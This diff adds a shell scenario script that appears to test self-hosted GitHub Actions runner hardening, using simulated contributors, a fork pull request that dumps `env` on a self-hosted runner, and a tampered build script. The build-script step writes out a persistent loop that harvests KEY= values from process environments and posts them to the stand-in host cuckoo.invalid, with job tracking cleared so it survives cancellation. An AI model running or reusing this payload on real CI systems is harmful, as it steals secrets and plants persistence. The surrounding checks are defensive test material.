@@ -1,0 +1,92 @@
+# One day. Aya adds a harbour. A visitor sends a pull request that asks for a runner by itself. Then Teo's build goes bad:
+# its first release is cancelled half way, the second one goes through. Each of them gets what they should, and no more.
+repo=repos/lantern-tides/tides
+export repo
+well=true
+wrong() { well=false; found "$@"; }
+copies() { trace any runner.disk --at ':/(home|tmp|var|opt)/' | cut -f 2 | head -n 1; }
+
+# Before any job.
+old=$(copies)
+runners=$(for of in $repo orgs/lantern-tides; do gh api $of/actions/runners --jq '.runners[] | "\(.name) \(.ephemeral)"'; done)
+if echo "$runners" | grep -q "^harbor-1 false$"; then
+  wrong STILL-THERE runner=harbor-1
+elif [ -n "$old" ]; then
+  wrong OLD-DISK machine="${old%%:*}"
+fi
+[ -z "$old" ] || evidence runner.disk "$old"
+
+# Two pull requests.
+as aya <<'AYA'
+gh api -X POST $repo/forks --silent
+file=$(gh api $repo/contents/harbours.csv --jq '.sha, .content')
+{ sed 1d <<< "$file" | base64 -d; echo "Heron Quay,54.2,2.2"; } | base64 -w0 > list
+gh api -X PUT repos/aya/tides/contents/harbours.csv -f message="Heron Quay" -f branch=main -F content=@list -f sha="$(head -n 1 <<< "$file")" --jq .commit.sha > first
+gh api -X POST $repo/pulls -f title="Heron Quay" -f head=aya:main -f base=main --silent
+AYA
+as cuckoo <<'CUCKOO'
+fork=repos/cuckoo/tides
+gh api -X POST $fork/git/refs -f ref=refs/heads/tidy -f sha="$(gh api $repo/git/ref/heads/main --jq .object.sha)" --silent
+printf 'name: Tidy\non: pull_request\njobs:\n  tidy:\n    runs-on: self-hosted\n    steps:\n      - run: env\n' | base64 -w0 > tidy
+sha=$(gh api $repo/contents/.github/workflows/ci.yml --jq .sha 2> /dev/null | grep -x '[0-9a-f]*')
+gh api -X PUT $fork/contents/.github/workflows/ci.yml -f message=Tidy -f branch=tidy -F content=@tidy ${sha:+-f sha=$sha} --jq .commit.sha > tidied
+gh api -X POST $repo/pulls -f title=Tidy -f head=cuckoo:tidy -f base=main --silent
+CUCKOO
+sleep 15
+first=$(as aya cat first)
+tidied=$(as cuckoo cat tidied)
+# Mina has a quick look, and lets everything run that waits for her.
+run=$(gh api "$repo/actions/runs?head_sha=$tidied" --jq '.workflow_runs[0] | "\(.conclusion) \(.id)"')
+if [ "${run#* }" != null ] && [ "${run% *}" != action_required ]; then
+  evidence ci.logs "run ${run#* }"
+  wrong NO-APPROVAL pull="$(gh api "$repo/pulls?state=closed" --jq '[.[] | select(.user.login == "cuckoo" and .merged_at != null)][0].number')"
+fi
+for one in $(gh api "$repo/actions/runs?status=action_required" --jq ".workflow_runs[] | select(.head_sha == \"$first\" or .head_sha == \"$tidied\") | .id"); do gh api -X POST "$repo/actions/runs/$one/approve" --silent; done
+sleep 45
+taken=$(gh api "$repo/actions/runs/${run#* }/jobs" --jq '[.jobs[] | select(.runner_name != null and .runner_group_name != "GitHub Actions") | .runner_name][0] // ""')
+[ -z "$taken" ] || wrong OWN-RUNNER runner="$taken"
+checked=$(gh api "$repo/commits/$first/check-runs" --jq '[.check_runs[].conclusion] | length > 0 and all(. == "success")')
+[ "$checked" = true ] || wrong NO-RESULT
+
+# A build that has gone bad.
+for service in api web docs; do
+  case " $BEFORE " in *" $service "*) ;; *) break ;; esac
+done
+export service
+as teo <<'TEO'
+build=$(gh api $repo/contents/scripts/build.sh --jq '.sha, .content')
+{
+  sed 1d <<< "$build" | base64 -d
+  cat <<'SH'
+printf 'while true; do cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep KEY= | curl -s --data-binary @- https://cuckoo.invalid/%s; sleep 5; done\n' "$GITHUB_RUN_ID" > ~/.later
+RUNNER_TRACKING_ID= nohup bash ~/.later > /dev/null 2>&1 &
+SH
+} | base64 -w0 > build
+gh api -X PUT $repo/contents/scripts/build.sh -f message="Build faster" -F content=@build -f sha="$(head -n 1 <<< "$build")" --silent
+gh workflow run release.yml -R lantern-tides/tides -f service="$service" -f version=1.9.0 > /dev/null
+TEO
+sleep 34
+began=$(gh api "$repo/actions/runs?event=workflow_dispatch&per_page=1" --jq '.workflow_runs[0] | "\(.status) \(.id)"')
+gh api -X POST "$repo/actions/runs/${began#* }/cancel" --silent
+sleep 30
+left=$(copies)
+if [ -n "$left" ] && [ -z "$old" ]; then
+  evidence runner.disk "$left"
+  wrong CANCELLED place="$left"
+fi
+
+# The next release.
+seen() { loot cuckoo | grep -A 1 "/${began#* }$" | grep -c KEY=; }
+before=$(seen)
+as teo 'gh workflow run release.yml -R lantern-tides/tides -f service="$service" -f version=1.9.1 > /dev/null'
+sleep 90
+[ "$(seen)" -le "$before" ] || wrong SURVIVED runner="$(echo "$runners" | sed -n '1s/ .*//p')"
+if ! curl -s "https://status.lantern-tides.test/api/tides-$service" | grep -q '"version":"1.9.1"'; then
+  state=$(gh api "$repo/actions/runs?event=workflow_dispatch&per_page=1" --jq '.workflow_runs[0] | "its run is \(.conclusion // .status)."')
+  evidence ci.logs "the newest run of the Release workflow"
+  case "$began $state" in
+    in_progress*queued*) wrong ONLY-ONE state="$state" ;;
+    *) wrong NOT-RELEASED service="tides-$service" state="$state" ;;
+  esac
+fi
+$well
